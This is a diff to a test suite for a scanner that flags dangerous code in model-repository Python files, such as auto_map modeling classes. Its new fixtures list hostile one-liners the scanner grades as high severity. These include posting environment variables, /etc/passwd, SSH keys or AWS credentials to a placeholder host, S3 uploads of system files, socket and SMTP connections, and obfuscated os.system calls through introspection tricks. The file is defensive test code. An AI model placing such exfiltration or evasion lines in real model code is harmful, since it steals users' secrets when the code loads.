@@ -605,7 +605,7 @@ def when_used(place, line):
     hits = judged(collect(scope(files)))
     return max(
         (each.severity.value for each in hits if each.rule == "MLG-HFR-004"),
-        key=["medium", "high", "critical"].index,
+        key=["info", "medium", "high", "critical"].index,
         default=None,
     )
 
@@ -613,7 +613,8 @@ def when_used(place, line):
 @pytest.mark.parametrize("place", USED)
 def test_what_a_loader_uses_may_run_no_command(place):
     assert when_used(place, "os.system('true')") == "high"
-    assert when_used(place, "requests.get('https://x')") is None
+    # A script of a dataset, and what only a server starts, fetches as a matter of course.
+    assert when_used(place, "requests.get('https://x')") in (None, "info")
 
 
 @pytest.mark.parametrize(
@@ -653,9 +654,13 @@ def test_what_a_class_does_that_auto_map_names(line):
 @pytest.mark.parametrize(
     ("line", "severity"),
     [
-        ("torch.utils.cpp_extension.load('x', ['x.cpp'])", None),
-        ("requests.get('https://x').content", None),
-        ("socket.socket()", None),
+        ("torch.utils.cpp_extension.load('x', ['x.cpp'])", "info"),
+        ("requests.get('https://x').content", "info"),
+        ("requests.get('https://x', headers={'k': os.environ.get('HF_TOKEN')}).content", "info"),
+        ("requests.get('https://x', params={'proxy': 'HTTP_PROXY' in os.environ})", "info"),
+        ("socket.socket()", "info"),
+        ("socket.socket().bind(('', 0))", "info"),
+        ("open('/etc/passwd').read()", None),
         ("open('x', 'w').write('x')", None),
         ("pathlib.Path('x').write_text('x')", None),
         ("shutil.copy('x', 'y')", None),
@@ -776,7 +781,32 @@ MAPPED = {"config.json": b'{"model_type": "x", "auto_map": {"AutoModel": "modeli
         ("def __init__(self):\n    pass\n  def _b(self):\n    os.system('true')", None),
         ("def __init__(self):\n    requests.post('https://x', json=dict(os.environ))", "high"),
         ("def __init__(self):\n    requests.post('https://x', json={**os.environ})", "high"),
-        ("def __init__(self):\n    requests.post('https://x', headers={'k': os.environ['TOKEN']})", None),
+        ("def __init__(self):\n    requests.post('https://x', headers={'k': os.environ['TOKEN']})", "info"),
+        ("def __init__(self):\n    requests.post('https://x', json=os.environ.copy())", "high"),
+        ("def __init__(self):\n    requests.post('https://x', data=open('/etc/passwd').read())", "high"),
+        (
+            "def __init__(self):\n    k = open('/root/.ssh/id_rsa').read()\n    requests.post('https://x', k)",
+            "high",
+        ),
+        (
+            "def __init__(self):\n    p = '/root/.aws/x'\n    k = open(p).read()\n    requests.post('https://x', k)",
+            "high",
+        ),
+        (
+            "def __init__(self):\n    import boto3\n    boto3.client('s3').upload_file('/etc/passwd', 'b', 'k')",
+            "high",
+        ),
+        (
+            "def __init__(self):\n    import boto3\n    boto3.client('s3').upload_file('model.bin', 'b', 'k')",
+            None,
+        ),
+        ("def __init__(self):\n    import smtplib\n    smtplib.SMTP('x')", "high"),
+        ("def __init__(self):\n    import socket\n    s = socket.socket()\n    s.connect(('x', 1))", "high"),
+        ("def __init__(self):\n    ().__class__.__base__.__subclasses__()[1]('x')", "high"),
+        ("def __init__(self):\n    import operator\n    operator.methodcaller('system', 'x')(os)", "high"),
+        ("def __init__(self):\n    import pydoc\n    pydoc.locate('os.system')('x')", "high"),
+        ("def __init__(self):\n    exec(open('x.txt').read())", "high"),
+        ("def __init__(self):\n    import ctypes\n    ctypes.CDLL('./x.so')", "medium"),
         ("def __init__(self):\n    eval(bytes([112, 97]).decode())", "high"),
     ],
 )
@@ -784,7 +814,7 @@ def test_what_methods_of_a_mapped_class_do(body, severity):
     source = f"import os, shutil, requests\nclass X:\n  {body}\n".encode()
     found = judged(collect(scope({**MAPPED, "modeling_x.py": source})))
     grades = [each.severity.value for each in found if each.rule == "MLG-HFR-004"]
-    assert grades == ([severity] if severity else [])
+    assert max(grades, default=None, key=lambda each: each != "info") == severity
 
 
 @pytest.mark.parametrize(
@@ -1050,13 +1080,15 @@ def _spellings(name):
     ]
 
 
-@pytest.mark.parametrize("name", [name for name, act in acts().items() if act not in ("decodes", "changes")])
+@pytest.mark.parametrize(
+    "name", [name for name, act in acts().items() if act not in ("decodes", "changes", "sends")]
+)
 def test_every_name_of_the_table_is_found_however_it_is_imported(name):
     for source in _spellings(name):
         facts = look(source.encode(), "modeling_x.py").facts
         assert "python.effect" in {fact.kind for fact in facts}, source
 
 
-@pytest.mark.parametrize("name", [name for name, act in acts().items() if act == "changes"])
+@pytest.mark.parametrize("name", [name for name, act in acts().items() if act in ("changes", "sends")])
 def test_source_with_a_name_that_changes_files_is_worth_parsing(name):
     assert all(telling(source.encode()) for source in _spellings(name))
